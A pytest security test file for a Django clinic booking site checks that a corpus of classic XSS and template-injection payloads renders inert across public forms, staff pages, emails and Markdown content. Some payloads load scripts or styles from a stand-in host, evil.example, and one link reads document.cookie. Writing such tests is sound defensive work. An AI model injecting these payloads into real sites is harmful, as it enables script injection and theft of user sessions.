"""Stored and reflected XSS: a corpus of classic payloads in every free-text field and in content is inert.

"Inert" is checked on the parsed page, against a baseline render of the same page with a harmless value:

* no element or attribute the baseline page does not have (by tag and attribute names), and no more
  scripts, frames, objects, SVG or MathML, images, styles, links, meta or base elements than it has;
* no `on…` attribute, no inline script (only the site's own `src="/static/…"` modules and JSON-LD data
  blocks), and no URL attribute that starts with `javascript:`, `vbscript:` or `data:`;
* the payload is still there, as text: it was escaped, not dropped or half-parsed.
"""

from __future__ import annotations

import io
import json
import re
from collections import Counter
from datetime import date
from typing import Any

import pytest
from bs4 import BeautifulSoup
from django.core import mail
from django.core.management import call_command
from django.core.management.base import CommandError
from django.test import Client
from icalendar import Calendar

from painpoint.booking import notify, service
from painpoint.booking.calendar import Window, free_slots
from painpoint.booking.forms import ContactForm
from painpoint.booking.models import Request, VisitType
from painpoint.clinics.models import Clinic
from painpoint.clinics.roles import CONTENT_EDITOR, FRONT_DESK
from painpoint.knowledge.models import Condition
from painpoint.lib.markdown import ALLOWED_ATTRIBUTES, ALLOWED_TAGS
from painpoint.outbox.api import deliver_due
from painpoint.testing.factories import edit, make_user, sign_in_staff, write_pack
from tests.security.admin_forms import admin_form

pytestmark = pytest.mark.django_db

HARMLESS = "Harmless Value"
PAYLOADS = [
    # Script elements
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/src=data:,alert(1)></script>",
    # Event handlers
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<img src=x:alert(1) onerror=eval(src)>",
    '<img src=x onerror="&#x61;lert(1)">',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<x onclick=alert(1)>click me",
    "<isindex type=image src=1 onerror=alert(1)>",
    # Attribute breakouts
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    '" onfocus="alert(1)" autofocus="',
    '\\"><script>alert(1)</script>',
    '<img """><script>alert(1)</script>">',
    # Element breakouts
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--<img src=x onerror=alert(1)>-->",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<template><script>alert(1)</script></template>",
    # URLs
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="\tjavascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<object data="javascript:alert(1)">',
    '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="//evil.example/">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    # SVG and MathML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    # CSS
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    "<style>@import 'javascript:alert(1)';</style>",
    "<style>body{background:url(//evil.example/x)}</style>",
    # Template injection: Django, Jinja, JavaScript, ERB, Angular
    "{{7*7}}",
    "{% debug %}",
    "{{ request.session }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
    # Encoded and look-alike variants
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u2028<script>alert(1)</script>\u2029",
    "<scr\u0130pt>alert(1)</scr\u0130pt>",
]
# Elements a payload would add to do harm; their number must not grow past the baseline's.
WATCHED = [
    *("script", "iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math", "img", "image"),
    *("video", "audio", "source", "style", "link", "meta", "base", "form", "button", "input", "textarea"),
    *("template", "noscript", "details", "marquee", "isindex"),
]
URL_ATTRIBUTES = (
    "href",
    "src",
    "action",
    "formaction",
    "xlink:href",
    "data",
    "poster",
    "srcset",
    "background",
    "cite",
    "ping",
)
SCHEMES = re.compile(r"^(javascript|vbscript|data):", re.IGNORECASE)


def squash(text: str) -> str:
    return " ".join(text.split())


def read(html: str | bytes) -> BeautifulSoup:
    return BeautifulSoup(html.decode("utf-8") if isinstance(html, bytes) else html, "html.parser")


def shapes(page: BeautifulSoup) -> set[tuple[str, tuple[str, ...]]]:
    return {(element.name, tuple(sorted(element.attrs))) for element in page.find_all(True)}


def dangerous_markup(page: BeautifulSoup) -> list[str]:
    """What would run or load something, whatever the baseline has."""
    found = []
    for element in page.find_all(True):
        for attribute, value in element.attrs.items():
            if attribute.lower().startswith("on"):
                found.append(f"<{element.name} {attribute}>")
            if attribute.lower() == "srcdoc":
                found.append(f"<{element.name} srcdoc>")
            if attribute.lower() in URL_ATTRIBUTES:
                text = value if isinstance(value, str) else " ".join(value)
                # Browsers drop whitespace and control characters in a URL's scheme.
                if SCHEMES.match(re.sub(r"[\x00-\x20]", "", text)):
                    found.append(f"<{element.name} {attribute}={text[:40]!r}>")
        if element.name == "script":
            if element.get("type") == "application/ld+json":
                json.loads(element.string or "")  # a data block that parses, and so ends where it should
            elif (
                not re.match(r"^/(static|admin)/[\w./-]+$", str(element.get("src", "")))
                or (element.string or "").strip()
            ):
                found.append(f"<script> that is not the site's own: {str(element)[:80]}")
    return found


class Baseline:
    """What a page holds with a harmless value in it: its kinds of element, and how many of the watched ones.

    Made from several renders for a page whose make-up depends on the value (search results, say).
    """

    def __init__(self, *htmls: bytes | str) -> None:
        self.shapes: set[tuple[str, tuple[str, ...]]] = set()
        self.counts: Counter[str] = Counter()
        for html in htmls:
            page = read(html)
            self.shapes |= shapes(page)
            self.counts |= Counter(element.name for element in page.find_all(WATCHED))


def inert_problems(html: bytes | str, baseline: Baseline, payload: str = "", shown: bool = True) -> list[str]:
    """Why `html` (with `payload` in it) is not as inert as the baseline, if it is not.

    `shown`: whether the page should show the payload (as text), or not show it at all.
    """
    page = read(html)
    problems = dangerous_markup(page)
    extra = shapes(page) - baseline.shapes
    if extra:
        problems.append(f"elements the baseline does not have: {sorted(extra)[:5]}")
    counts = Counter(element.name for element in page.find_all(WATCHED))
    grown = {name: counts[name] for name in counts if counts[name] > baseline.counts[name]}
    if grown:
        problems.append(f"more of these than the baseline: {grown}")
    if payload:
        values = " ".join(str(e.get("value", "")) for e in page.find_all(["input", "option"]))
        visible = squash(payload) in squash(page.get_text(" ") + " " + values)
        if shown and not visible:
            problems.append("the payload is not shown as text")
        if not shown and visible:
            problems.append("the page repeats what was typed, which it should not show at all")
    return problems


# The public forms, which show what was typed again when something is missing


def public_pages(client: Client, value: str) -> dict[str, tuple[bytes, bool]]:
    """Every public page that shows `value` back, as (HTML, whether `value` should be visible)."""
    person = {"name": value, "phone": "555 0101", "email": "", "consent": "", "token": "t"}
    pages = {}
    pages["booking form"] = client.post("/appointments/new-patient/", {**person, "reason": value}).content
    pages["request form"] = client.post(
        "/appointments/injection-consultation/", {**person, "reason": value, "days": ["mon"]}
    ).content
    pages["call form"] = client.post(
        "/appointments/call/", {**person, "reason": value, "best_time": value}
    ).content
    contact = {"name": value, "message": value, "email": "", "phone": "", "consent": "", "website": ""}
    pages["contact form"] = client.post(
        "/contact/", {**contact, "started": ContactForm.start_stamp()}
    ).content
    pages["site search"] = client.get("/search/", {"q": value}).content
    sign_in = client.post("/staff/sign-in/", {"username": value[:150], "password": "wrong"})
    pages["staff sign-in"] = sign_in.content
    thanks = client.post(
        "/appointments/call/",
        {**person, "consent": "on", "token": "t-" + value, "best_time": value},
        follow=True,
    )
    pages["thanks page"] = thanks.content
    # Each shows the value, except the thanks page, which must not repeat it.
    return {kind: (html, kind != "thanks page") for kind, html in pages.items()}


def test_the_corpus_has_at_least_fifty_distinct_payloads():
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 50
    assert all(len(payload) <= 120 for payload in PAYLOADS), "every payload fits the shortest field (names)"


def test_payloads_typed_into_the_public_forms_come_back_inert(client):
    harmless = public_pages(client, HARMLESS)
    baseline = {kind: Baseline(html) for kind, (html, _) in harmless.items()}
    # Search results depend on the words: with hits, with a "did you mean", with nothing found.
    searches = [client.get("/search/", {"q": q}).content for q in ("back pain", "sciatca", "qqzzxxyy")]
    baseline["site search"] = Baseline(harmless["site search"][0], *searches)
    problems = []
    for payload in PAYLOADS:
        for kind, (html, shown) in public_pages(client, payload).items():
            found = inert_problems(html, baseline[kind], payload, shown)
            problems += [f"{kind}, {payload!r}: {p}" for p in found]
    assert not problems, f"{len(problems)} problems:\n" + "\n".join(problems)


def test_payloads_the_api_echoes_back_come_as_json_that_no_browser_renders(client):
    for payload in PAYLOADS:
        body = {
            "visit_type": "injection-consultation",
            "patient": {
                "name": payload,
                "phone": "555 0101",
                "email": "x@example.org",
                "date_of_birth": payload,
            },
            "reason": payload,
            "preferred_times": payload,
            "consent": True,
        }
        response = client.post("/api/v1/appointments", body, content_type="application/json")
        assert response.status_code == 400, payload  # the date of birth is refused, and echoed in the error
        assert response["Content-Type"].startswith("application/json")
        assert response["X-Content-Type-Options"] == "nosniff"
        assert "'unsafe-inline'" not in response.get("Content-Security-Policy", "'unsafe-inline'")


# What staff see: the inbox, the entry, the give-a-slot page, notes, the name search and the admin


class Stored:
    """One value stored in every free-text field of a booking, two requests and a message."""

    def __init__(self, value: str, slot: Any, desk: Client) -> None:
        visit_type = VisitType.objects.get(slug="new-patient")
        patient = service.Patient(
            name=squash(value)[:120],
            phone="555 0101",
            email="ann@example.org",
            date_of_birth=date(1961, 4, 12),
            reason=value,
        )
        self.booked, _ = service.book(
            visit_type=visit_type,
            start=slot.start,
            provider_id=slot.provider_id,
            location_id=slot.location_id,
            patient=patient,
        )
        self.asked, _ = service.ask(
            kind=Request.APPOINTMENT_REQUEST,
            patient=patient,
            visit_type=VisitType.objects.get(slug="injection-consultation"),
            preferred_times=value,
        )
        self.called, _ = service.ask(kind=Request.CALL_REQUEST, patient=patient, preferred_times=value)
        self.message, _ = service.ask(kind=Request.MESSAGE, patient=patient)
        # Staff notes, through the inbox's own forms: a note, and a status change with a note.
        for found in (self.booked, self.asked, self.called, self.message):
            assert desk.post(f"/staff/requests/{found.pk}/notes/", {"text": value}).status_code == 302
        response = desk.post(
            f"/staff/requests/{self.called.pk}/status/", {"status": "contacted", "note": value}
        )
        assert response.status_code == 302

    def pages(self, desk: Client) -> dict[str, bytes]:
        pages = {}
        for label, found in (
            ("booking entry", self.booked),
            ("request entry", self.asked),
            ("call entry", self.called),
            ("message entry", self.message),
        ):
            response = desk.get(f"/staff/requests/{found.pk}/")
            assert response.status_code == 200, label
            pages[label] = response.content
        pages["give a slot"] = desk.get(f"/staff/requests/{self.asked.pk}/slot/").content
        pages["patient's own page"] = (
            Client().get(f"/appointments/manage/{notify.manage_token(self.booked)}/").content
        )
        return pages


def search_page(desk: Client, value: str) -> bytes:
    desk.post("/staff/search/", {"q": squash(value)[:120]})
    page = desk.get("/staff/").content
    desk.post("/staff/search/", {"q": "", "clear": "1"})
    return page


def test_payloads_stored_in_every_free_text_field_render_inert_for_staff():
    desk = Client()
    sign_in_staff(desk, make_user("desk", role=FRONT_DESK, is_staff=True))
    slots = separate_slots()
    assert len(slots) > len(PAYLOADS) + 10
    # The patient's own page offers to cancel only far enough ahead: a baseline soon and one far ahead.
    renders: dict[str, list[bytes]] = {}
    for slot in (slots[0], slots[-1]):
        for kind, html in Stored(HARMLESS, slot, desk).pages(desk).items():
            renders.setdefault(kind, []).append(html)
    baseline = {kind: Baseline(*htmls) for kind, htmls in renders.items()}
    # Enough harmless entries that the name search has more than one page, as the payloads' may.
    for slot in slots[1:7]:
        Stored(HARMLESS, slot, desk)
    harmless_search = search_page(desk, HARMLESS)
    assert b'rel="next"' in harmless_search
    baseline_search = Baseline(harmless_search, desk.get("/staff/").content)
    problems = []
    for index, payload in enumerate(PAYLOADS, start=7):
        pages = Stored(payload, slots[index], desk).pages(desk)
        for kind, html in pages.items():
            shown = kind != "patient's own page"  # it shows the visit, never the name or the reason
            found = inert_problems(html, baseline[kind], payload, shown)
            problems += [f"{kind}, {payload!r}: {p}" for p in found]
        found = inert_problems(search_page(desk, payload), baseline_search, payload)
        problems += [f"inbox name search, {payload!r}: {p}" for p in found]
    # The whole list, a page at a time, with every payload's name on it.
    pages = desk.get("/staff/").context["page_obj"].paginator.num_pages
    for number in range(1, pages + 1):
        html = desk.get("/staff/", {"page": number}).content
        problems += [f"inbox page {number}: {p}" for p in inert_problems(html, baseline_search)]
    assert not problems, f"{len(problems)} problems:\n" + "\n".join(problems)


def test_payloads_in_emails_stay_plain_text_and_leave_the_invitation_whole():
    slots = separate_slots()
    for index, value in enumerate([HARMLESS, *PAYLOADS]):
        patient = service.Patient(
            name=squash(value)[:120],
            phone="555 0101",
            email=f"p{index}@example.org",
            date_of_birth=None,
            reason=value,
        )
        slot = slots[index]
        service.book(
            visit_type=slot_visit(),
            start=slot.start,
            provider_id=slot.provider_id,
            location_id=slot.location_id,
            patient=patient,
        )
        service.ask(kind=Request.CALL_REQUEST, patient=patient, preferred_times=value)
    deliver_due(limit=1000)
    invitations = {}
    for message in mail.outbox:
        assert not getattr(message, "alternatives", []), "emails are plain text: nothing in them is markup"
        assert "\n" not in message.subject
        for part in message.attachments:
            calendar = Calendar.from_ical(part.get_payload(decode=True))
            events = calendar.walk("VEVENT")
            assert len(events) == 1
            invitations[message.to[0]] = sorted(events[0].keys())
    baseline = invitations.pop("p0@example.org")
    assert len(invitations) == len(PAYLOADS)
    for address, keys in invitations.items():
        assert keys == baseline, f"the invitation to {address} has other fields: the name broke out"


def slot_visit() -> VisitType:
    return VisitType.objects.get(slug="new-patient")


def separate_slots() -> list[Any]:
    """Free new-patient slots that do not overlap one another, so each can be booked.

    The first two are left out: the minimum notice may catch up with them while the test runs.
    """
    visit_type = slot_visit()
    chosen: list[Any] = []
    for slot in free_slots(visit_type, Window.for_visitors(Clinic.objects.current())):
        if all(
            other.provider_id != slot.provider_id or other.start + visit_type.duration <= slot.start
            for other in chosen
        ):
            chosen.append(slot)
    return chosen[2:]


# Content: Markdown from a content pack, and what a content editor saves in the admin

CONTENT_PAGES = ("/conditions/knots/", "/where-does-it-hurt/lower-back/", "/search/?q=knots", "/a-to-z/")
MARKDOWN_PAYLOADS = [
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![img](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[ref][evil]\n\n[evil]: javascript:alert(1)",
    '[x](condition:knots" onmouseover="alert(1))',
    "[x](condition:../../admin/)",
    '<a href="javascript:alert(1)">raw link</a>',
    "<div onclick=alert(1)>raw block</div>",
]


def load(pack) -> None:
    err = io.StringIO()
    try:
        call_command("load_content", str(pack), stdout=io.StringIO(), stderr=err)
    except CommandError:
        raise AssertionError(err.getvalue()) from None


def content_pages(client: Client) -> dict[str, bytes]:
    pages = {}
    for url in CONTENT_PAGES:
        response = client.get(url)
        assert response.status_code == 200, url
        pages[url] = response.content
    return pages


def prose_problems(html: bytes) -> list[str]:
    """The sanitised Markdown holds only the tags and attributes that the sanitiser allows."""
    problems = []
    for prose in read(html).select(".prose"):
        for element in prose.find_all(True):
            if element.name not in ALLOWED_TAGS:
                problems.append(f"<{element.name}> in the body")
            allowed = ALLOWED_ATTRIBUTES.get(element.name, set()) | (
                {"rel"} if element.name == "a" else set()
            )
            if set(element.attrs) - allowed:
                problems.append(f"<{element.name} {sorted(set(element.attrs) - allowed)}> in the body")
    return problems


def content_problems(pages: dict[str, bytes], baseline: dict[str, bytes]) -> list[str]:
    problems = []
    for url, html in pages.items():
        page, base = read(html), read(baseline[url])
        found = dangerous_markup(page) + prose_problems(html)
        # Outside the body, the page is built as before.
        for prose in [*page.select(".prose"), *base.select(".prose")]:
            prose.decompose()
        extra = shapes(page) - shapes(base)
        if extra:
            found.append(f"elements the baseline does not have: {sorted(extra)[:5]}")
        problems += [f"{url}: {p}" for p in found]
    return problems


def test_the_loader_refuses_raw_html_and_script_links_in_a_pack(tmp_path):
    real = Condition.objects.order_by("pk").first()
    for line, problem in (
        ("<script>alert(1)</script>", "raw HTML is not allowed"),
        ("Read <img src=x onerror=alert(1)> this.", "raw HTML is not allowed"),
        ("[click](javascript:alert(1))", "link 'javascript:"),
        ("[click](data:text/html,x)", "link 'data:text/html,x'"),
        ("[click](<javascript:alert(1)>)", "link '<javascript:"),
    ):
        pack = write_pack(tmp_path / str(abs(hash(line))))
        edit(pack, "conditions/knots.md", "Keep moving.", f"Keep moving.\n\n{line}\n")
        err = io.StringIO()
        with pytest.raises(CommandError):
            call_command("load_content", str(pack), stdout=io.StringIO(), stderr=err)
        assert problem in err.getvalue(), err.getvalue()
    assert Condition.objects.filter(pk=real.pk).exists()  # all or nothing: the real content stays


def test_payloads_in_a_content_pack_render_inert(client, tmp_path):
    pack = write_pack(tmp_path)
    load(pack)
    baseline = content_pages(client)
    # What the loader lets through: any payload in a fenced code block, payloads with no tag and no inline
    # link as plain text, and reference-style links, which its link check does not see.
    plain = [p for p in PAYLOADS if not re.search(r"<\s*[a-zA-Z]", p) and "](" not in p]
    blocks = ["```", *PAYLOADS, "```"]
    references = [
        "[one][a] [two][b] [three][c]",
        "[a]: javascript:alert(1)",
        "[b]: data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "[c]: JaVaScRiPt:alert(1)",
    ]
    body = "\n\n".join([*plain, "\n".join(blocks), *references])
    edit(pack, "conditions/knots.md", "Keep moving.", f"Keep moving.\n\n{body}\n")
    edit(pack, "conditions/knots.md", "summary: A short summary of Knots.", f"summary: {json.dumps(SUMMARY)}")
    edit(pack, "conditions/knots.md", "aka: [muscle knot]", f"aka: [muscle knot, {json.dumps(PAYLOADS[0])}]")
    load(pack)
    knots = Condition.objects.get(slug="knots")
    assert knots.summary == SUMMARY and "onerror=alert(1)" in knots.body_md
    pages = content_pages(client)
    problems = content_problems(pages, baseline)
    text = squash(read(pages["/conditions/knots/"]).get_text(" "))
    problems += [f"not shown as text: {p!r}" for p in [*plain, *PAYLOADS, SUMMARY] if squash(p) not in text]
    assert not problems, f"{len(problems)} problems:\n" + "\n".join(problems)


SUMMARY = '"><img src=x onerror=alert(1)>'


def edit_in_the_admin(client: Client, condition: Condition, **changes: str) -> None:
    url = f"/admin/knowledge/condition/{condition.pk}/change/"
    response = client.post(url, {**admin_form(client, url), **changes})
    assert response.status_code == 302, read(response.content).select(".errorlist")


@pytest.fixture
def editor(client) -> Client:
    sign_in_staff(client, make_user("editor", role=CONTENT_EDITOR, is_staff=True))
    return client


def test_markdown_a_content_editor_saves_in_the_admin_renders_inert(editor):
    knots = Condition.objects.order_by("pk").first()
    url = knots.get_absolute_url()
    baseline = {url: editor.get(url).content}
    body = knots.body_md + "\n\n" + "\n\n".join(PAYLOADS + MARKDOWN_PAYLOADS)
    edit_in_the_admin(editor, knots, body_md=body, summary=PAYLOADS[19], name=PAYLOADS[0])
    problems = content_problems({url: editor.get(url).content}, baseline)
    assert not problems, f"{len(problems)} problems:\n" + "\n".join(problems)


def test_a_content_editor_cannot_put_a_script_link_in_a_conditions_sources(editor):
    knots = Condition.objects.order_by("pk").first()
    sources = [
        {"title": "Script", "url": "javascript:alert(document.cookie)"},
        {"title": "Data", "url": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="},
    ]
    url = f"/admin/knowledge/condition/{knots.pk}/change/"
    editor.post(url, {**admin_form(editor, url), "sources": json.dumps(sources)})
    page = read(editor.get(knots.get_absolute_url()).content)
    assert not dangerous_markup(page)
